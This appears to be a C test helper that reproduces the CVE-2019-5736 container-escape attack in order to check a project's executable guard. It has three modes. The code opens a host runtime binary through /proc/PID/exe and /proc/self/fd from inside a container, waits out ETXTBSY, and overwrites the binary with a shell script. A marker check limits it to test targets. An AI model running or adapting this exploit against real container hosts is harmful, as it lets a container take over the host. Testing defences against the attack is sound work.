/*
 * CVE-2019-5736 attack helper for tests/tests/exe_guard.rs, built with `gcc -static`
 * and run inside a container.
 *
 *   attack now  PID|ppid MARKER OUT   open /proc/PID/exe O_PATH, then at once reopen it
 *                                     through /proc/self/fd/N with O_WRONLY|O_TRUNC
 *   attack wait PID|ppid MARKER OUT   the same, from a detached child that keeps the fd
 *                                     and retries O_WRONLY while the file is busy
 *                                     (ETXTBSY: someone still executes it), i.e. until
 *                                     every process running the binary has exited
 *   attack scan -        MARKER OUT   poll /proc for a process whose argv[0] contains
 *                                     MARKER (a runtime process entering the container),
 *                                     grab its exe, then as `wait`
 *
 * The target must have MARKER in its argv[0]; otherwise nothing is opened ("REFUSED"),
 * so a wrong pid can never hit another binary. Results are appended to OUT, one per
 * line; the last line is the outcome: WROTE <n> | EROFS | ETXTBSY | EPERM | errno <n>.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static const char *out_path;

static void record(const char *fmt, ...) {
    char buf[512];
    va_list ap;
    va_start(ap, fmt);
    int n = vsnprintf(buf, sizeof buf - 1, fmt, ap);
    va_end(ap);
    if (n < 0)
        return;
    if (n > (int)sizeof buf - 2)
        n = sizeof buf - 2;
    buf[n++] = '\n';
    int fd = open(out_path, O_WRONLY | O_APPEND | O_CREAT | O_CLOEXEC, 0644);
    if (fd >= 0) {
        (void)!write(fd, buf, n);
        close(fd);
    }
}

static const char *errname(int e) {
    switch (e) {
    case EROFS: return "EROFS";
    case ETXTBSY: return "ETXTBSY";
    case EPERM: return "EPERM";
    case EACCES: return "EACCES";
    default: return NULL;
    }
}

/* argv[0] of pid contains marker? */
static int is_target(pid_t pid, const char *marker, char *argv0, size_t len) {
    char p[64];
    snprintf(p, sizeof p, "/proc/%d/cmdline", (int)pid);
    argv0[0] = 0;
    int fd = open(p, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return 0;
    ssize_t n = read(fd, argv0, len - 1);
    close(fd);
    if (n <= 0)
        return 0;
    argv0[n] = 0;
    return strstr(argv0, marker) != NULL;
}

static int open_exe(pid_t pid) {
    char p[64];
    snprintf(p, sizeof p, "/proc/%d/exe", (int)pid);
    return open(p, O_PATH);
}

/* Reopen the O_PATH fd for writing and write garbage; returns the errno (0: wrote). */
static int overwrite(int fd, int retry_busy, int trunc) {
    char p[64];
    snprintf(p, sizeof p, "/proc/self/fd/%d", fd);
    for (int i = 0;; i++) {
        int w = open(p, O_WRONLY | (trunc ? O_TRUNC : 0) | O_CLOEXEC);
        if (w >= 0) {
            static const char junk[] = "#!/bin/sh\necho overwritten-by-container\n";
            ssize_t n = write(w, junk, sizeof junk - 1);
            close(w);
            record("WROTE %zd", n);
            return 0;
        }
        int e = errno;
        if (e == ETXTBSY && retry_busy && i < 600) {
            if (i == 0)
                record("busy (ETXTBSY): waiting for the binary's users to exit");
            usleep(50 * 1000);
            continue;
        }
        const char *name = errname(e);
        if (name)
            record("%s", name);
        else
            record("errno %d", e);
        return e;
    }
}

/* Detach from the caller (a hook must return; a runtime waiting on our stdio must not
 * wait for us) keeping only `fd`, then attack. */
static void detach_and_attack(int fd) {
    pid_t c = fork();
    if (c < 0) {
        record("fork failed %d", errno);
        exit(1);
    }
    if (c > 0)
        exit(0);
    setsid();
    int keep = dup2(fd, 200);
    for (int i = 0; i < 1024; i++)
        if (i != keep)
            close(i);
    int null = open("/dev/null", O_RDWR);
    if (null >= 0) {
        dup2(null, 0);
        dup2(null, 1);
        dup2(null, 2);
    }
    exit(overwrite(keep, 1, 0) == 0 ? 0 : 1);
}

int main(int argc, char **argv) {
    if (argc != 5) {
        fprintf(stderr, "usage: attack now|wait|scan PID|ppid|- MARKER OUT\n");
        return 2;
    }
    const char *mode = argv[1], *target = argv[2], *marker = argv[3];
    out_path = argv[4];
    char argv0[4096];
    pid_t pid = 0;
    int fd = -1;
    if (strcmp(mode, "scan") == 0) {
        struct timespec t0, t;
        clock_gettime(CLOCK_MONOTONIC, &t0);
        record("scanning");
        while (fd < 0) {
            DIR *d = opendir("/proc");
            struct dirent *e;
            while (d && (e = readdir(d))) {
                pid_t p = atoi(e->d_name);
                if (p <= 0 || p == getpid())
                    continue;
                if (is_target(p, marker, argv0, sizeof argv0)) {
                    fd = open_exe(p);
                    if (fd >= 0) {
                        pid = p;
                        break;
                    }
                }
            }
            if (d)
                closedir(d);
            clock_gettime(CLOCK_MONOTONIC, &t);
            if (fd < 0 && t.tv_sec - t0.tv_sec > 60) {
                record("NOT CAUGHT");
                return 3;
            }
        }
        record("caught pid %d argv0 %s", (int)pid, argv0);
        return overwrite(fd, 1, 0) == 0 ? 0 : 1;
    }
    pid = strcmp(target, "ppid") == 0 ? getppid() : atoi(target);
    /* A just-forked target may not have exec'd its binary yet. */
    for (int i = 0; i < 500 && !is_target(pid, marker, argv0, sizeof argv0); i++)
        usleep(10 * 1000);
    if (!is_target(pid, marker, argv0, sizeof argv0)) {
        record("REFUSED pid %d (argv0 \"%s\") is not %s", (int)pid, argv0, marker);
        return 2;
    }
    fd = open_exe(pid);
    if (fd < 0) {
        record("cannot open /proc/%d/exe: errno %d", (int)pid, errno);
        return 1;
    }
    record("opened exe of pid %d argv0 %s", (int)pid, argv0);
    if (strcmp(mode, "now") == 0)
        return overwrite(fd, 0, 1) == 0 ? 0 : 1;
    detach_and_attack(fd);
    return 0;
}
